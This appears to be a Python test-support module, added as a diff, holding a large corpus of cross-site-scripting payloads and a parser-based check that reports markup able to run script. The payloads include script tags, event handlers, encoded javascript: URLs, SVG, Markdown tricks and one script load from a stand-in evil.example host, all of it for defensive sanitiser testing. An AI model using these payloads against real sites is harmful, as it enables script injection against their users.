@@ -1,0 +1,179 @@
+"""A corpus of cross-site-scripting payloads, and a check that markup is inert.
+
+Written here from the well-known families of attack: script elements, event handlers,
+`javascript:` and other dangerous URLs (plain, mixed case, entity-, percent- and
+whitespace-encoded), SVG and MathML, broken and nested markup, attribute break-outs,
+Markdown link and image syntax, and template syntax. Every payload that can run calls
+alert(), so a real browser shows a dialog if one gets through.
+"""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+_SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>>alert(1)<</script>>",
+    "<script\x20type='text/javascript'>alert(1)</script>",
+    "<script/xss src=data:,alert(1)></script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "<script>/*</script><svg onload=alert(1)>*/</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+]
+_HANDLERS = [
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    '<img src="x" onerror="alert(1)">',
+    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<body onload=alert(1)>",
+    "<div onmouseover=alert(1)>hover</div>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<iframe onload=alert(1)>",
+    "<object data=x onerror=alert(1)>",
+    "<a onmouseover=alert(1)>x</a>",
+    "<p style=x onclick=alert(1)>click</p>",
+    "<img/src/onerror=alert(1)>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img\tsrc=x\tonerror=alert(1)>",
+    "<img\nsrc=x\nonerror=alert(1)>",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<isindex action=javascript:alert(1) type=image>",
+]
+_URLS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript%3Aalert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "\x01javascript:alert(1)",
+    "jav&#x09;ascript:alert(1)",
+]
+_MARKDOWN = [
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click]( javascript:alert(1) )",
+    "[click](<javascript:alert(1)>)",
+    "[click](javascript&#58;alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click][r]\n\n[r]: javascript:alert(1)",
+    '[click](https://example.org "onmouseover=alert(1)")',
+    '[click](https://example.org" onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    '<https://example.org/" onmouseover="alert(1)>',
+    "![x](javascript:alert(1))",
+    "![x](x onerror=alert(1))",
+    '![x](https://example.org/a.png"onerror="alert(1))',
+    "[![x](javascript:alert(1))](javascript:alert(1))",
+    "[a](https://example.org){: onclick=alert(1)}",
+    "*<img src=x onerror=alert(1)>*",
+    "> <script>alert(1)</script>",
+    "- <svg onload=alert(1)>",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "    <script>alert(1)</script>",
+    "<div markdown=1>[x](javascript:alert(1))</div>",
+    '[x](#" onclick="alert(1))',
+]
+_SVG_AND_OTHER = [
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<embed src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "<base href=javascript:alert(1)//>",
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    '<div style="background:url(javascript:alert(1))">',
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    "{{ request.user.password }}{% debug %}",
+    "${alert(1)}",
+    '<a href="javascript:alert(1)">x</a>',
+    "<a href=javascript&#58;alert(1)>x</a>",
+    "<x onclick=alert(1)>click",
+    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
+    "\u202e<script>alert(1)</script>",
+]
+
+PAYLOADS: list[str] = [
+    *_SCRIPTS,
+    *_HANDLERS,
+    *(f"[link]({url})" for url in _URLS),
+    *(f'<a href="{url}">link</a>' for url in _URLS),
+    *_MARKDOWN,
+    *_SVG_AND_OTHER,
+]
+
+SAFE_SCHEMES = {"", "http", "https", "mailto"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
+
+
+class _Inspector(HTMLParser):
+    def __init__(self, allowed_scripts: tuple[str, ...]) -> None:
+        super().__init__(convert_charrefs=True)
+        self.allowed_scripts = allowed_scripts
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        names = dict(attrs)
+        if tag in ("script", "iframe", "object", "embed", "svg", "math", "base", "style"):
+            src = names.get("src") or ""
+            if not (tag == "script" and src.startswith(self.allowed_scripts)):
+                self.problems.append(f"<{tag}> element")
+        if tag == "meta" and "http-equiv" in names:
+            self.problems.append("<meta http-equiv>")
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.problems.append(f"<{tag} {name}=...>")
+            if name == "style":
+                self.problems.append(f"<{tag} style=...>")
+            if name in URL_ATTRIBUTES and value is not None:
+                scheme = urlsplit("".join(value.split())).scheme.lower()
+                if scheme not in SAFE_SCHEMES:
+                    self.problems.append(f"<{tag} {name}={value!r}>")
+
+
+def unsafe_markup(html: str, *, allowed_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
+    """Every element or attribute in `html` that could run script; [] when inert."""
+    inspector = _Inspector(allowed_scripts)
+    inspector.feed(html)
+    inspector.close()
+    return inspector.problems
